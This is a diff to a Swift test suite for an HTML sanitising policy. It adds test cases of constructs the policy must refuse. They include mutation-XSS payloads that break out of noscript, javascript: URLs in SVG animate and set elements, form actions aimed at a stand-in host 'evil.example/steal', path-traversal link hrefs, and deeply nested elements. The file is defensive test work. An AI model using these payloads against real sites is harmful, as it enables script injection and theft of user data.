@@ -36,6 +36,20 @@ struct HTMLOverridePolicyTests {
         ("<p style=\"background:url(javascript:alert(1))\">x</p>", "javascript:"),
         ("<style>@import url(https://evil.example/x.css);</style>", "@import"),
         ("<svg><foreignObject><p>x</p></foreignObject></svg>", "<foreignobject>"),
+        // Parser differentials and URL normalisation (review findings of 2026-12-05).
+        ("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>", "event-handler"),
+        ("<noscript><!-- </noscript><img src=x onerror=alert(1)> --></noscript>", "event-handler"),
+        ("<NoScript><style></NOSCRIPT><a href=\"javascript:alert(1)\">x</a></style></noscript>", "javascript:"),
+        ("<noembed>x</noembed>", "<noembed>"),
+        ("<xmp>x</xmp>", "<xmp>"),
+        ("<form action=\"\\\\evil.example/steal\"></form>", "<form>"),
+        ("<form action=\"/\\evil.example/steal\"></form>", "<form>"),
+        ("<link rel=\"stylesheet\" href=\"/static/../admin/tenants\">", "<link>"),
+        ("<link rel=\"stylesheet\" href=\"{{static_base}}/%2e%2e/admin\">", "<link>"),
+        ("<svg><a><animate attributeName=\"href\" to=\"javascript:alert(1)\"/><text>x</text></a></svg>", "<animate>"),
+        ("<svg><set attributeName=\"xlink:href\" to=\"javascript:alert(1)\"/></svg>", "<set>"),
+        (String(repeating: "<q>", count: 20_000), "HTML elements"),
+        (String(repeating: "<div>", count: 300), "nested more than 256"),
     ]
 
     @Test("refused constructs, each with a reason", arguments: refused)
